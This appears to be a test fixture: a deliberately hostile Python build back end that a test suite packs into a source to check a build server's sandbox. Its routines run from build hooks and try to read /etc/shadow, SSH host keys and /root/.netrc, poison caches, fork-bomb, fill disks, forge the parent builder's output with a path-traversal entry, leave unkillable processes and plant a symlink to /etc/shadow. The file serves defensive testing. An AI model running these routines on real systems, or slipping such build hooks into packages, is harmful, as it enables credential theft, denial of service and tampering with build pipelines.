"""A build back end that does what it must not: it is packed with a source, and runs wherever that source is built.

ATTACK, in the place of which a test writes a name, chooses what it does. What it found out comes back as its error, in one line of JSON.
"""

import contextlib
import ctypes
import glob
import json
import os
import resource
import signal
import socket
import sys
import time
from collections.abc import Callable
from typing import Any

ATTACK = "nothing"
RELEASES = "/srv/built/releases"


def tried(do: Callable[[], object]) -> str:
    """Return how it went: done, or the error's name."""
    try:
        do()
    except OSError as error:
        return type(error).__name__
    return "done"


def write(path: str, text: str = "") -> None:
    with open(path, "w", encoding="utf-8") as file:
        file.write(text)


def read(path: str) -> None:
    with open(path, "rb") as file:
        file.read(1)


def connect(address: Any, family: int = socket.AF_INET) -> None:
    with socket.socket(family) as asking:
        asking.settimeout(5)
        asking.connect(address)


def others() -> None:
    """Look for a process of another account."""
    if not [path for path in glob.glob("/proc/[0-9]*") if os.stat(path).st_uid != os.getuid()]:
        raise PermissionError


def limit(pid: int) -> None:
    """Give a process the limits that it has."""
    resource.prlimit(pid, resource.RLIMIT_NOFILE, resource.prlimit(pid, resource.RLIMIT_NOFILE))


def mount() -> None:
    if ctypes.CDLL(None).mount(b"none", b"/mnt", b"tmpfs", 0, None):
        raise PermissionError
    ctypes.CDLL(None).umount(b"/mnt")


def vast() -> None:
    """Make a file of a TiB, which takes no room, but from whoever reads it."""
    path = os.path.join(os.environ["HOME"], "vast")
    try:
        with open(path, "wb") as file:
            file.truncate(1 << 40)
    finally:
        os.unlink(path)


def probe() -> dict[str, list[str] | int]:
    """Try what does no harm where it succeeds: as root on the host, all of it does."""
    found = {
        "signal the first process": tried(lambda: os.kill(1, 0)),
        "limit the first process": tried(lambda: limit(1)),
        "see others": tried(others),
        "read the host's keys": tried(lambda: read(glob.glob("/etc/ssh/ssh_host_*_key")[0]) if glob.glob("/etc/ssh/*") else read("/etc/ssh/key")),
        "read root's home": tried(lambda: read("/root/.netrc")),
        "read accounts": tried(lambda: read("/etc/shadow")),
        "read what the server is": tried(lambda: read("/etc/nous-vm/deploy.json")),
        "plant a release": tried(lambda: os.mkdir(f"{RELEASES}/planted")),
        "poison the store": tried(lambda: write("/var/cache/nous-vm/store/poison")),
        "change what is fetched": tried(lambda: write("/fetched/files/poison")),
        "change the package": tried(lambda: write("/usr/local/lib/nous-vm/poison")),
        "ask a server of the host": tried(lambda: connect(("127.0.0.1", 8000))),
        "ask systemd": tried(lambda: connect("/run/systemd/private", socket.AF_UNIX)),
        "mount": tried(mount),
        "make a file without bounds": tried(vast),
        "open a lock": tried(lambda: read("/run/nous-vm/build.lock")),
    }
    return {"done": [name for name, outcome in found.items() if outcome == "done"], "tried": len(found)}


def fork() -> dict[str, int]:
    """Fork until it cannot."""
    children: list[int] = []
    with contextlib.suppress(OSError):
        while len(children) < 5000:
            if (child := os.fork()) == 0:
                time.sleep(60)
                os._exit(0)
            children.append(child)
    for child in children:
        os.kill(child, signal.SIGKILL)
    return {"children": len(children)}


def fill() -> dict[str, int]:
    """Write wherever that is possible until it is full; return how many MiB each took."""
    found = {}
    for place in (os.environ["HOME"], "/tmp", "/var/tmp", "/dev/shm", "/run", "/"):
        count = 0
        with contextlib.suppress(OSError):
            for count in range(4096):
                with open(f"{place}/filled-{count}", "wb", buffering=0) as file:
                    if file.write(bytes(1 << 20)) < 1 << 20:
                        break
        for path in glob.glob(f"{place}/filled-*"):
            os.unlink(path)
        found[place if place != os.environ["HOME"] else "own"] = count
    return found


def forge() -> None:
    """Speak in the place of the program that builds: hand root what it must not take, and a result."""
    parent = os.getppid()
    with open(f"/proc/{parent}/fd/1", "wb", buffering=0) as out:
        os.kill(parent, signal.SIGSTOP)
        out.write(b'{"path": "../../releases/planted", "kind": "d"}\n{"kind": "result", "lock": "fits"}\n')
    os.kill(parent, signal.SIGKILL)
    time.sleep(60)


def linger() -> None:
    """Leave a process behind."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            os.closerange(0, 64)
            time.sleep(3600)
        os._exit(0)


def never() -> None:
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        time.sleep(60)


def litter() -> None:
    """Leave in the release what leads elsewhere, or is no file."""
    folder = os.getcwd()
    os.mkfifo(f"{folder}/fifo")


def away() -> None:
    os.symlink("/etc/shadow", f"{os.getcwd()}/away")


def sparse() -> None:
    with open(f"{os.getcwd()}/sparse", "wb") as file:
        file.truncate(1 << 25)
        for number in range(1, 200):
            os.link(file.name, f"{file.name}-{number}")


def build_editable(wheel_directory: str, *_arguments: object, **_options: object) -> str:
    """Give a wheel with nothing in it, after the attack."""
    import zipfile

    result = globals()[ATTACK]()
    if result is not None:
        raise RuntimeError(json.dumps(result))
    name, about = "nous-1.0-py3-none-any.whl", "nous-1.0.dist-info"
    with zipfile.ZipFile(f"{wheel_directory}/{name}", "w") as wheel:
        wheel.writestr(f"{about}/METADATA", "Metadata-Version: 2.1\nName: nous\nVersion: 1.0\n")
        wheel.writestr(f"{about}/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(f"{about}/RECORD", "")
    return name


build_wheel = build_editable


def get_requires_for_build_editable(*_arguments: object, **_options: object) -> list[str]:
    """Attack as early as the source runs."""
    if ATTACK in ("probe", "fork", "fill", "forge", "never", "linger"):
        result = globals()[ATTACK]()
        if result is not None:
            raise RuntimeError(json.dumps(result))
    return []


if __name__ == "__main__":
    print(json.dumps(probe()), file=sys.stdout)
